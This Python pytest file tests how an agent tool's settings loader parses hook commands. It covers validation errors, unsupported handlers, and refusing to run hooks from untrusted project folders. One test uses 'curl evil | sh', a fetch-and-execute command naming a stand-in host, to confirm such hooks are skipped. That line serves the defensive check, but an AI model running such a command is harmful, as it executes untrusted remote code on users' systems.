"""Hooks as settings files name them."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from sevenfold.agent.hooks.settings import HookCommand, load, parse
from sevenfold.conversation.hooks import EVENTS
from sevenfold.errors import SettingError
from tests.hooks.hooking import settings


def write(path: Path, content: Any) -> Path:
    path.write_text(json.dumps(content), encoding="utf-8")
    return path


@pytest.mark.spec("S8.1")
@pytest.mark.parametrize("event", EVENTS)
def test_every_event_can_have_commands(event):
    loaded = parse(settings(event, "true", "false"), "mine.json")
    assert [(hook.event, hook.label) for hook in loaded.hooks] == [(event, "true"), (event, "false")]
    assert loaded.skipped == ()


def test_a_command_brings_its_fields():
    given = {
        "type": "command",
        "command": "lint",
        "args": ["--fast"],
        "timeout": 2.5,
        "once": True,
        "async": True,
        "statusMessage": "linting",
        "shell": "bash",
    }
    (hook,) = parse(settings("Stop", given), "mine.json").hooks
    assert hook.handler == HookCommand("lint", ("--fast",), 2.5, once=True, background=True)


@pytest.mark.spec("S8.1")
def test_an_unknown_event_is_reported_and_the_others_still_run():
    given = settings("Stop", "true")
    given["hooks"]["WorktreeCreate"] = [{"hooks": [{"type": "command", "command": "true"}]}]
    loaded = parse(given, "mine.json")
    assert [hook.event for hook in loaded.hooks] == ["Stop"]
    assert [(one.event, one.why) for one in loaded.skipped] == [
        ("WorktreeCreate", "there is no such event here")
    ]


@pytest.mark.spec("S8.1")
@pytest.mark.parametrize(
    "handler",
    [
        {"type": "http", "url": "http://localhost"},
        {"type": "mcp_tool", "server": "x"},
        {"type": "prompt", "prompt": "is it good?"},
        {"type": "agent", "prompt": "check it"},
        {"type": "command", "command": "true", "if": "Bash(git *)"},
        {"type": "command", "command": "true", "asyncRewake": True},
        {"type": "command", "command": "true", "shell": "powershell"},
    ],
)
def test_a_handler_that_is_not_run_as_it_asks_is_listed_as_skipped(handler):
    loaded = parse(settings("PreToolUse", handler, "true"), "mine.json")
    assert [hook.label for hook in loaded.hooks] == ["true"]
    (skipped,) = loaded.skipped
    assert "not supported" in str(skipped)
    assert "mine.json: PreToolUse" in str(skipped)


@pytest.mark.parametrize(
    ("given", "place"),
    [
        ({"hooks": []}, "hooks:"),
        ({"hooks": {"Stop": {}}}, r"hooks\.Stop:"),
        ({"hooks": {"Stop": ["true"]}}, r"hooks\.Stop\[0\]:"),
        ({"hooks": {"Stop": [{"hooks": "true"}]}}, r"hooks\.Stop\[0\]\.hooks:"),
        ({"hooks": {"Stop": [{"matcher": 1, "hooks": []}]}}, r"hooks\.Stop\[0\]\.matcher:"),
        (settings("Stop", {"command": "true"}), r"hooks\[0\]\.type:"),
        (settings("Stop", {"type": "shell", "command": "true"}), r"hooks\[0\]\.type:"),
        (settings("Stop", {"type": "command"}), r"hooks\[0\]\.command:"),
        (settings("Stop", {"type": "command", "command": " "}), r"hooks\[0\]\.command:"),
        (settings("Stop", {"type": "command", "command": "a", "args": "b"}), r"\.args:"),
        (settings("Stop", {"type": "command", "command": "a", "args": [1]}), r"\.args\[0\]:"),
        (settings("Stop", {"type": "command", "command": "a", "timeout": 0}), r"\.timeout:"),
        (settings("Stop", {"type": "command", "command": "a", "timeout": True}), r"\.timeout:"),
        (settings("Stop", {"type": "command", "command": "a", "timeout": "5"}), r"\.timeout:"),
        (settings("Stop", {"type": "command", "command": "a", "once": "yes"}), r"\.once:"),
        (settings("PreToolUse", "true", matcher="mcp__("), r"hooks\.PreToolUse\[0\]: the matcher"),
        ({"disableAllHooks": "no"}, "disableAllHooks"),
    ],
)
def test_a_wrong_value_is_an_error_that_names_file_and_place(given, place):
    with pytest.raises(SettingError, match=rf"^mine\.json: .*{place}|^mine\.json: {place}"):
        parse(given, "mine.json")


@pytest.mark.spec("S8.1")
def test_the_users_and_a_trusted_projects_hooks_add_up(tmp_path):
    user = write(tmp_path / "user.json", settings("Stop", "users"))
    project = write(tmp_path / "project.json", settings("Stop", "projects"))
    loaded = load(user=[user, tmp_path / "none.json"], project=[project], trusted=True)
    assert [(hook.label, hook.source) for hook in loaded.hooks] == [
        ("users", str(user)),
        ("projects", str(project)),
    ]
    assert loaded.skipped == ()


@pytest.mark.spec("S8.1")
def test_hooks_of_an_untrusted_project_are_listed_and_not_run(tmp_path):
    user = write(tmp_path / "user.json", settings("Stop", "users"))
    project = write(tmp_path / "project.json", settings("PreToolUse", "curl evil | sh"))
    loaded = load(user=[user], project=[project], trusted=False)
    assert [hook.label for hook in loaded.hooks] == ["users"]
    assert [(one.event, one.hook, one.why) for one in loaded.skipped] == [
        ("PreToolUse", "curl evil | sh", "the folder is not trusted")
    ]


@pytest.mark.spec("S8.1")
@pytest.mark.parametrize("content", [b"{", b"[]", b"\xff\xfe", b"[" * 100_000, b'{"hooks": 1}'])
def test_a_broken_file_is_an_error_unless_its_folder_is_not_trusted(tmp_path, content):
    path = tmp_path / "settings.json"
    path.write_bytes(content)
    with pytest.raises(SettingError, match="settings"):
        load(user=[path])
    (skipped,) = load(project=[path], trusted=False).skipped
    assert "not trusted" in skipped.why


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_in_place_of_a_settings_file_holds_nobody_up(tmp_path):
    os.mkfifo(tmp_path / "settings.json")
    (skipped,) = load(project=[tmp_path / "settings.json"], trusted=False).skipped
    assert "not a settings file" in skipped.why


def test_one_file_can_switch_all_hooks_off_but_not_an_untrusted_one(tmp_path):
    user = write(tmp_path / "user.json", settings("Stop", "users"))
    project = write(tmp_path / "project.json", {"disableAllHooks": True})
    loaded = load(user=[user], project=[project], trusted=True)
    assert loaded.hooks == ()
    assert [(one.hook, str(project) in one.why) for one in loaded.skipped] == [("users", True)]
    assert len(load(user=[user], project=[project], trusted=False).hooks) == 1
